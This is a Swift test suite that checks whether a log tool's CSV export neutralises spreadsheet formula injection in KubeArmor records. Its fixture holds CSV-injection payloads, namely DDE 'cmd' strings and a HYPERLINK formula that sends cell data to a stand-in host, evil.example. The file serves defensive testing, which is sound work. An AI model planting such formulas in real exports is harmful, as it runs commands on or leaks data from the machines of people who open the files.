import Foundation
import Testing

/// CSV from `query` and `evaluate`, opened in a spreadsheet, must not run what the monitored host wrote.
@Suite struct CSVInjectionTests {
    /// A KubeArmor record whose strings are spreadsheet formulas (DDE and HYPERLINK exfiltration).
    static let record = #"{"Timestamp":1717150000,"UpdatedTime":"2024-05-31T10:06:40.000000Z","ClusterName":"default","HostName":"+node","HostPID":10,"HostPPID":1,"PID":10,"PPID":1,"UID":0,"ProcessName":"=cmd|' /C calc'!A0","ParentProcessName":"/bin/sh","Source":"@SUM(1+1)*cmd|' /C calc'!A0","Operation":"File","Resource":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")","Data":"-2+3+cmd|' /C calc'!A0","Result":"Passed","Type":"HostLog"}"#

    /// The cells of one CSV line (RFC 4180 quoting; the test's lines hold no quoted newline).
    static func cells(_ line: String) -> [String] {
        var cells: [String] = [], cell = "", quoted = false, previous: Character = " "
        for c in line {
            if c == "\"" { quoted.toggle(); if previous == "\"" && quoted { cell.append("\"") } }
            else if c == "," && !quoted { cells.append(cell); cell = "" }
            else { cell.append(c) }
            previous = c
        }
        return cells + [cell]
    }

    @Test func formulasInEventsComeOutAsText() throws {
        let scratch = Scratch()
        let store = scratch.path + "/store"
        #expect(try CLI.run(["import", "--store", store, scratch.write("formulas.ndjson", Self.record + "\n")]).status == 0)
        let columns = "HostName,HostPID,ProcessName,Source,Resource,Data"
        let csv = try CLI.run(["query", "--store", store, "--format", "csv", "--columns", columns])
        #expect(csv.status == 0)
        let rows = csv.stdout.components(separatedBy: "\r\n").filter { !$0.isEmpty }
        #expect(rows.count == 2)
        #expect(Self.cells(rows[1]) == ["'+node", "10", "'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0",
                                        #"'=HYPERLINK("http://evil.example/?"&A1,"x")"#, "'-2+3+cmd|' /C calc'!A0"])
        let triggers: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]
        #expect(Self.cells(rows[1]).allSatisfy { !triggers.contains($0.first ?? " ") })

        // --group-by with csv neutralises the values too; --csv-raw writes them exactly.
        let grouped = try CLI.run(["query", "--store", store, "--format", "csv", "--group-by", "ProcessName"])
        #expect(grouped.stdout == "Count,ProcessName\r\n1,\"'=cmd|' /C calc'!A0\"\r\n")
        let raw = try CLI.run(["query", "--store", store, "--format", "csv", "--columns", "ProcessName,Data", "--csv-raw"])
        #expect(raw.stdout == "ProcessName,Data\r\n=cmd|' /C calc'!A0,-2+3+cmd|' /C calc'!A0\r\n")
    }
}
